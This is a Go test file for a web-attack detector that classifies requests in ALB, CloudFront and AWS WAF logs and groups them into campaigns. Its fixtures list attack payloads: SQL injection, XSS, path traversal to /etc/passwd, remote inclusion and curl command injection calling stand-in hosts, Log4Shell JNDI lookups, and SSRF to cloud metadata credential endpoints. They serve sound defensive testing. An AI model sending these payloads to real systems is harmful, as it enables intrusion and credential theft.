package web

import (
	"encoding/json"
	"fmt"
	"net/netip"
	"net/url"
	"strings"
	"testing"
	"time"

	"bannin/observe"
)

// payloads are attacks as scanners and people send them, written for this test
// after the OWASP Core Rule Set's own regression tests, the PayloadsAllTheThings
// collection, and what public sites get.
var payloads = []struct {
	want class
	uri  string
}{
	{injection, "/item?id=1%27%20OR%20%271%27=%271"},
	{injection, "/item?id=1%20UNION%20SELECT%201,2,3--"},
	{injection, "/item?id=-1+union+all+select+null,user(),null--+-"},
	{injection, "/item?id=1%27%20AND%20SLEEP(5)--%20-"},
	{injection, "/item?id=1;WAITFOR%20DELAY%20%270:0:5%27--"},
	{injection, "/item?id=1+and+extractvalue(1,concat(0x7e,version()))"},
	{injection, "/item?id=1/**/UnIoN/**/SeLeCt/**/1,2"},
	{injection, "/item?id=%2527%2520or%25201%253D1--"},
	{injection, "/login?user=admin%27--%20&password=x"},
	{injection, "/item/1'%20or%20'1'='1"},
	{injection, "/item?id=1;DROP%20TABLE%20users"},
	{injection, "/search?q=%22%20or%20%22a%22=%22a"},
	{injection, "/item?id=(select*from(select(sleep(10)))a)"},
	{script, "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"},
	{script, "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E"},
	{script, "/search?q=%3Csvg/onload=alert(1)%3E"},
	{script, "/search?q=javascript:alert(document.domain)"},
	{traversal, "/download?file=../../../../etc/passwd"},
	{traversal, "/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd"},
	{traversal, "/download?file=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"},
	{traversal, "/download?file=%25252e%25252e%25252f%25252e%25252e%25252f%25252e%25252e%25252fetc%25252fpasswd"},
	{traversal, "/static/..%c0%af..%c0%afetc/hosts"},
	{traversal, "/page?f=php://filter/convert.base64-encode/resource=index"},
	{traversal, "/page?f=C:%5cwindows%5cwin.ini"},
	{traversal, "/page?f=....//....//....//etc/passwd"},
	{inclusion, "/index.php?file=http://203.0.113.66/shell.txt?"},
	{inclusion, "/index.php?include=https%3A%2F%2Fevil.example%2Fc.php"},
	{command, "/ping?host=127.0.0.1;cat%20/x"},
	{command, "/ping?host=127.0.0.1%7Cid%7C"},
	{command, "/ping?host=$(curl%20http://203.0.113.66/x)"},
	{command, "/ping?host=%60whoami%60"},
	{command, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"},
	{command, "/index.php?s=/index/think%5capp/invokefunction&function=call_user_func_array"},
	{command, "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"},
	{command, "/?class.module.classLoader.URLs%5B0%5D=0"},
	{command, "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%29%7D/"},
	{metadata, "/proxy?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/"},
	{metadata, "/proxy?url=http%3A%2F%2F2852039166%2F"},
	{metadata, "/proxy?url=http://0xA9FEA9FE/"},
	{metadata, "/proxy?url=http://[fd00:ec2::254]/latest/user-data"},
	{metadata, "/proxy?url=http://[::ffff:a9fe:a9fe]/"},
	{metadata, "/proxy?url=http://0251.0376.0251.0376/"},
	{metadata, "/proxy?url=http://169.254.170.2/v2/credentials/"},
	{jndi, "/?x=$%7Bjndi:ldap://203.0.113.66/a%7D"},
	{jndi, "/?x=%24%7B%24%7Blower%3Aj%7Dndi%3A%24%7Blower%3Al%7Ddap%3A%2F%2Fx%2Fa%7D"},
	{jndi, "/?x=$%7B$%7B::-j%7D$%7B::-n%7D$%7B::-d%7D$%7B::-i%7D:rmi://x/a%7D"},
	{template, "/hello?name=%7B%7B7*7%7D%7D"},
	{template, "/hello?name=$%7B1337*1338%7D"},
	{template, "/hello?name=%7B%7B''.__class__.__mro__[1].__subclasses__()%7D%7D"},
	{template, "/hello?name=%7B%7Bconfig.items()%7D%7D"},
	{shell, "/wp-content/uploads/2026/07/x.php"},
	{shell, "/shell.php?cmd=id"},
	{shell, "/.well-known/acme.php"},
	{secret, "/.env"}, {secret, "/.git/config"}, {secret, "/app/.aws/credentials"}, {secret, "/backup.sql"}, {secret, "/actuator/heapdump"},
	{flaw, "/boaform/admin/formLogin"}, {flaw, "/phpmyadmin/index.php"}, {flaw, "/HNAP1/"},
}

// ordinary are requests that hold what looks like an attack, and are none.
var ordinary = []string{
	"/", "/index.php", "/items/12?page=2", "/search?q=red+shoes",
	"/search?q=union+station+select+hotels", "/search?q=student+union+select+committee", "/search?q=how+to+select+from+a+list",
	"/search?q=O'Brien", "/search?q=it's+5+o'clock+somewhere", "/search?q=rock+'n'+roll+and+blues+or+jazz", "/search?q=drop+table+lamp",
	"/search?q=script+writing+course", "/search?q=java+script", "/search?q=a+%3C+b+and+c+%3E+d", "/search?q=1+or+2+bedrooms", "/search?q=R%26D+(senior)+jobs%3B+remote",
	"/search?q=%E6%9D%B1%E4%BA%AC+%E9%A7%85+%E3%83%9B%E3%83%86%E3%83%AB", "/%E8%A3%BD%E5%93%81/%E4%B8%80%E8%A6%A7?%E9%A0%81=2", "/search?q=%8A%94%8E%AE%89%EF%8E%D0", // Shift_JIS
	"/api?filter=%7B%22a%22%3A%22b%22%2C%22c%22%3A%5B1%2C2%5D%7D", "/api?query=%7Buser(id:1)%7Bname%7D%7D", "/odata/Items?$filter=(Price%20gt%2020)%20and%20(Name%20eq%20'Milk')", "/odata/Items?$apply=aggregate(sum(1))",
	"/login?return_url=https%3A%2F%2Fwww.example.com%2Faccount%3Ftab%3D1", "/oauth?redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcallback", "/beacon?page=https://www.example.com/index.php&file=a",
	"/img?d=data%3Aimage%2Fpng%3Bbase64%2CiVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk%2BM9QDwADhgGAWjR9awAAAABJRU5ErkJggg%3D%3D",
	"/t?s=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U", "/saml?SAMLRequest=fZFfa8IwFMXfBb9DyXvaNrZ%2BCW2Ag%3D%3D&RelayState=a",
	"/cms/preview?html=%3Cp%3EHello%20%3Cb%3Eworld%3C%2Fb%3E%3C%2Fp%3E", "/cms/preview?html=%3Cdiv%20style%3D%22color:red%22%3Ex%3C%2Fdiv%3E", "/a/../b/style.css", "/assets/../img/x.png",
	"/img/%7B%7Bitem.url%7D%7D", "/x?t=$%7Bname%7D", "/discount?rate=100%25", "/blog/what-is-cross-site--scripting", "/.well-known/acme-challenge/abc", "/.well-known/security.txt",
	"/maps?bbox=(1.5,2.5);(3.5,4.5)", "/calc?e=2*(3%2B4)-1", "/time?from=2026-07-25T03:00:00%2B09:00&to=2026-07-25%2004:00:00", "/tags/c%23?sort=-date", "/users?ids=1,2,3&fields=id,name;limit=5", "/environment", "/gitlab/help", "/a?x=%",
}

func classify(uri string) class {
	_, query, _ := strings.Cut(uri, "?")
	decoded := decodedTwice(uri)
	return newClassifier().request(decoded, []byte(query))
}

// decodedTwice is bannin.http.decoded.
func decodedTwice(uri string) []byte {
	for range 2 {
		if plain, err := url.PathUnescape(uri); err == nil {
			uri = plain
		}
	}
	if at := strings.IndexByte(uri, '?'); at >= 0 {
		uri = uri[:at] + strings.ReplaceAll(uri[at:], "+", " ")
	}
	return []byte(uri)
}

func TestPayloadsAreKnown(t *testing.T) {
	for _, p := range payloads {
		if got := classify(p.uri); got != p.want {
			t.Errorf("%s is %q, want %q", p.uri, classNames[got], classNames[p.want])
		}
	}
}

// cloudFrontLine is a request as CloudFront logs it: what the client sent,
// encoded once more.
func cloudFrontLine(at time.Time, ip, uri string, status int) string {
	stem, query, _ := strings.Cut(uri, "?")
	again := strings.NewReplacer("%", "%25", "{", "%7B", "}", "%7D", "'", "%27", "[", "%5B", "]", "%5D", "`", "%60", " ", "%20")
	if query == "" {
		query = "-"
	}
	return strings.Join([]string{at.Format("2006-01-02"), at.Format("15:04:05"), ip, "GET", "d111111abcdef8.cloudfront.net", again.Replace(stem), fmt.Sprint(status),
		"Mozilla/5.0", again.Replace(query), "5120", "300", fmt.Sprint("R", ip)}, "\t")
}

// TestPayloadsAreKnownInEveryLog reads each payload out of three logs, from an
// address of its own.
func TestPayloadsAreKnownInEveryLog(t *testing.T) {
	cf := []string{"#Version: 1.0", "#Fields: date time c-ip cs-method cs(Host) cs-uri-stem sc-status cs(User-Agent) cs-uri-query sc-bytes cs-bytes x-edge-request-id"}
	var alb, waf []string
	want := map[string]string{}
	for i, p := range payloads {
		ip := fmt.Sprintf("203.0.113.%d", i)
		at := noon.Add(time.Duration(i) * time.Second)
		want[ip] = classNames[p.want]
		alb = append(alb, hit{at: at, ip: ip, uri: p.uri, status: 404}.line())
		cf = append(cf, cloudFrontLine(at, ip, p.uri, 404))
		stem, query, _ := strings.Cut(p.uri, "?")
		if p.want != flaw { // which only a refusal tells
			waf = append(waf, wafRecord(at, ip, stem, query, "ALLOW", "x", nil))
		}
	}
	for name, log := range map[string][]string{"alb": alb, "cloudfront": cf, "waf": waf} {
		got := map[string]string{}
		for _, s := range find(t, log) {
			for kind := range s.Reason["attacks"].(map[string]any) {
				got[s.Events[0].IP] = kind
			}
		}
		for ip, kind := range want {
			if got[ip] != kind && (name != "waf" || kind != classNames[flaw]) {
				t.Errorf("%s: %s is %q, want %q", name, ip, got[ip], kind)
			}
		}
	}
}

func TestOrdinaryRequestsAreNoAttacks(t *testing.T) {
	for _, uri := range ordinary {
		if got := classify(uri); got != none {
			t.Errorf("%s is taken for %q", uri, classNames[got])
		}
	}
	var hits []hit
	for i, uri := range ordinary {
		for n := range 30 {
			hits = append(hits, hit{at: noon.Add(time.Duration(i*30+n) * time.Second), ip: "198.51.100.7", uri: uri, status: 200, size: 1000 + 37*i + n})
		}
	}
	check(t, lines(hits))
}

func TestTools(t *testing.T) {
	z := newClassifier()
	for text, want := range map[string]string{"sqlmap/1.8#stable (https://sqlmap.org)": "sqlmap", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)": "nikto", "Fuzz Faster U Fool v2.1.0": "fuzz faster u fool",
		"Mozilla/5.0 (X11; Linux x86_64)": "", "": "", "Googlebot/2.1 (+http://www.google.com/bot.html)": ""} {
		for range 2 { // once anew, once remembered
			if c, name := z.header([]byte(text)); name != want || (c == tool) != (want != "") {
				t.Errorf("%s is %q of %q", text, classNames[c], name)
			}
		}
	}
	for _, text := range []string{"${jndi:ldap://x/a}", "%24%7Bjndi:dns://x%7D", "$%7B${lower:j}ndi"} {
		if c, _ := z.header([]byte(text)); c != jndi {
			t.Errorf("%s is %q", text, classNames[c])
		}
	}
}

// sqlmap works at one page with so many different payloads; the page answers in
// different lengths, and fails at times.
func sqlmap(at time.Time, n int) []hit {
	var all []hit
	for i := range n {
		h := hit{at: at.Add(time.Duration(i) * time.Second), ip: "203.0.113.9", uri: fmt.Sprintf("/item?id=%d%%27%%20AND%%20%d=%d--", i, 1000+i, 1000+i/2), status: 200, size: 3000 + i%7*100}
		if i%5 == 0 {
			h.status = 500
		}
		all = append(all, h)
	}
	return all
}

func TestCampaigns(t *testing.T) {
	var noise, spa, scan, sweep, nat, refused, blocked, many, tooMany []hit
	for i, p := range payloads {
		at := noon.Add(time.Duration(i) * time.Minute)
		noise = append(noise, hit{at: at, ip: fmt.Sprintf("203.0.113.%d", i), uri: p.uri, status: 404})
		spa = append(spa, hit{at: at, ip: "203.0.113.9", uri: p.uri, status: 200, size: 4321})
		scan = append(scan, hit{at: at, ip: "203.0.113.9", uri: p.uri, status: 404, agent: "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"})
	}
	for i := range 300 {
		at := noon.Add(time.Duration(i) * 10 * time.Second)
		sweep = append(sweep, hit{at: at, ip: "203.0.113.9", uri: fmt.Sprintf("/dir-%c%c/", 'a'+i%26, 'a'+i/26), status: 404})
		nat = append(nat, hit{at: at, ip: "203.0.113.9", uri: fmt.Sprintf("/old/%d", i%20), status: 404})
		many = append(many, hit{at: at, ip: fmt.Sprintf("203.%d.113.%d", i%9, i%97), uri: fmt.Sprintf("/item?id=%d%%27%%20or%%20%%271%%27=%%271", i), status: 200, size: 3000 + i})
	}
	for _, h := range sqlmap(noon, 200) {
		h.status = 403
		refused = append(refused, h)
		h.waf = true
		blocked = append(blocked, h)
	}
	for i := range 1200 {
		tooMany = append(tooMany, hit{at: noon.Add(time.Duration(i) * time.Second), ip: "203.0.113.9", uri: fmt.Sprintf("/p%c%c?f=../../../etc/passwd", 'a'+i%26, 'a'+i/26%26), status: 404})
	}
	for _, c := range []struct {
		name string
		hits []hit
		want []told
	}{
		{"one page worked at", sqlmap(noon, 40), []told{{"attack", "203.0.113.9", false}}},
		{"one page worked at over the hour's end", sqlmap(noon.Add(59*time.Minute+40*time.Second), 40), []told{{"attack", "203.0.113.9", false}}},
		{"a few tries", sqlmap(noon, 8), []told{{"attempt", "203.0.113.9", false}}},
		{"all refused", refused, []told{{"attempt", "203.0.113.9", false}}},
		{"all blocked by WAF", blocked, []told{{"attempt", "203.0.113.9", false}}},
		{"a site that answers all alike", spa, []told{{"attempt", "203.0.113.9", false}}},
		{"a scanner", scan, []told{{"attempt", "203.0.113.9", false}}},
		{"in great numbers", tooMany, []told{{"attack", "203.0.113.9", false}}},
		{"a list of names", sweep, []told{{"scan", "203.0.113.9", false}}},
		{"old links", nat, nil},
		{"ordinary visitors", visitors(noon, 6, 500), nil},
	} {
		t.Run(c.name, func(t *testing.T) { check(t, lines(c.hits), c.want...) })
	}
	t.Run("noise of many addresses is no incident", func(t *testing.T) {
		for _, s := range find(t, lines(noise)) {
			if s.Kind.Severity > 1 {
				t.Errorf("%s", s.Kind.Rule)
			}
		}
	})
	t.Run("one attacker of many addresses", func(t *testing.T) {
		found := false
		for _, one := range tells(find(t, lines(many))) {
			found = found || one == told{"attack-by-many", "*@app/web/50dc6c495c0c9188/item", false}
		}
		if !found {
			t.Error("not told")
		}
	})
}

func TestOneCampaignIsOneSignalWithItsEvents(t *testing.T) {
	hits := append(sqlmap(noon.Add(50*time.Minute), 100), sqlmap(noon.Add(2*time.Hour), 100)...)
	hits = append(hits, hit{at: noon, ip: "203.0.113.9", uri: "/.env", status: 404})
	signals := find(t, lines(hits))
	if len(signals) != 1 || len(signals[0].Events) != len(hits) || signals[0].Omitted != 0 {
		t.Fatalf("got %d signals, the first with %d events", len(signals), len(signals[0].Events))
	}
	e, r := signals[0].Events[0], signals[0].Reason
	if e.Account != "111122223333" || e.Region != "ap-northeast-1" || e.IP != "203.0.113.9" || len(e.Resources) != 1 ||
		e.Resources[0].ARN != "arn:aws:elasticloadbalancing:ap-northeast-1:111122223333:loadbalancer/app/web/50dc6c495c0c9188" {
		t.Errorf("got %+v", e)
	}
	if r["requests"] != int64(201) || r["attacks"].(map[string]any)["sql-injection"] != int64(200) {
		t.Errorf("got %v", r)
	}
}

// wafRecord is a record of AWS WAF.
func wafRecord(at time.Time, ip, uri, args, action, label string, headers map[string]string) string {
	var list []map[string]string
	for name, value := range headers {
		list = append(list, map[string]string{"name": name, "value": value})
	}
	raw, _ := json.Marshal(map[string]any{"timestamp": at.UnixMilli(), "formatVersion": 1, "webaclId": "arn:aws:wafv2:us-east-1:111122223333:regional/webacl/web/a1b2c3d4",
		"terminatingRuleId": "Default_Action", "action": action, "httpSourceName": "ALB", "labels": []map[string]string{{"name": label}},
		"httpRequest": map[string]any{"clientIp": ip, "uri": uri, "args": args, "httpMethod": "GET", "headers": list}})
	return string(raw)
}

func TestWAF(t *testing.T) {
	lfi := "awswaf:managed:aws:core-rule-set:GenericLFI_QueryArguments"
	many := func(action, uri string) (log []string) {
		for i := range 40 {
			log = append(log, wafRecord(noon.Add(time.Duration(i)*time.Second), "203.0.113.9", uri, fmt.Sprintf("f=..%%2f..%%2f%d", i), action, lfi, nil))
		}
		return log
	}
	for _, c := range []struct {
		name string
		log  []string
		want []told
	}{
		{"recognised and let through, again and again", many("ALLOW", "/a"), []told{{"attack", "203.0.113.9", false}}},
		{"blocked", many("BLOCK", "/a"), []told{{"attempt", "203.0.113.9", false}}},
		{"in any header", []string{wafRecord(noon, "203.0.113.9", "/", "", "ALLOW", "x", map[string]string{"X-Api-Version": "${jndi:ldap://203.0.113.66/a}"})}, []told{{"attempt", "203.0.113.9", false}}},
		{"blocked by a rate", []string{wafRecord(noon, "203.0.113.9", "/", "", "BLOCK", "x", nil)}, nil},
		{"ordinary", []string{wafRecord(noon, "203.0.113.9", "/", "a=b", "ALLOW", "awswaf:managed:aws:bot-control:bot:verified", map[string]string{"User-Agent": "Mozilla/5.0", "Cookie": "a=$1"})}, nil},
	} {
		t.Run(c.name, func(t *testing.T) { check(t, c.log, c.want...) })
	}
}

func TestTrustedNetworksAreLeftOut(t *testing.T) {
	d := NewAttacks(Settings{Trusted: []netip.Prefix{netip.MustParsePrefix("203.0.113.0/24")}})
	p := projection(Detectors(Settings{}))
	pad := observe.NewReducer([]observe.Lens{d.Lens(p)})
	defer pad.Close()
	for _, line := range lines(sqlmap(noon, 40)) {
		see(t, p, line, pad)
	}
	if err := observe.Each([]*observe.Reducer{pad}, func(c *observe.Cell) error { t.Errorf("got %+v", c); return nil }); err != nil {
		t.Fatal(err)
	}
}
